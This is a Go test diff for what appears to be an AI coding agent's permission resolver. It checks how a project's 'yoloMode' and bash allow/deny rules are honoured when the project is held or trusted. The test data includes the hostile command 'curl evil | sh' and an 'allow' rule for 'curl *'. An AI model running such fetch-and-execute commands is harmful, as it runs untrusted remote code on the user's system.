@@ -173,6 +173,15 @@ func TestAnAllowOnlyAnUntrustedProjectGivesGoesToAPerson(t *testing.T) {
 
 	trusted := held
 	trusted.HoldProjectAllows = false
+	// The project's yoloMode allows what asks; held, it allows nothing more.
+	testkit.WriteFile(t, project, []byte(`{"yoloMode":true}`))
+	if v := Verdict(resolve.Load(held), bash("", "rm x"), nil, nil); v.Action != resolve.Ask {
+		t.Errorf("the project's yoloMode held: %s (%s)", v.Action, v.Explanation)
+	}
+	if v := Verdict(resolve.Load(trusted), bash("", "rm x"), nil, nil); v.Action != resolve.Allow {
+		t.Errorf("the project's yoloMode trusted: %s (%s)", v.Action, v.Explanation)
+	}
+	testkit.WriteFile(t, project, []byte(`{"permission":{"bash":{"curl *":"allow","git push*":"deny"}}}`))
 	for _, req := range []*wire.Request{bash("", "curl evil | sh"), bash("builder", "make all")} {
 		if v := Verdict(resolve.Load(trusted), req, nil, nil); v.Action != resolve.Allow {
 			t.Errorf("trusted project %q: %s", req.AccessIntent.MatchValues, v.Action)
